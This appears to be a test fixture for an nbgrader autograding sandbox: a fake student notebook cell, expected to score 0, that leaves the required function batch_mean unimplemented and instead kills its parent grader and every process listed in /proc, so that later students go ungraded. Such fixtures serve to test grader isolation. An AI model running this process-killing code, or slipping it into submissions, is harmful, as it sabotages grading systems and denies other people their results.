# about: kills its parent (nbgrader autograde) and every other process it can see, so later students go ungraded; no code
# expected: 0
# %% [batch_mean]
import os, signal
_me = os.getpid()
for _pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid in (_me, 0):
        continue
    try:
        os.kill(_pid, signal.SIGKILL)
        print("killed", _pid)
    except OSError as _e:
        print("could not kill", _pid, _e)
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
def batch_mean(x):
    raise NotImplementedError()
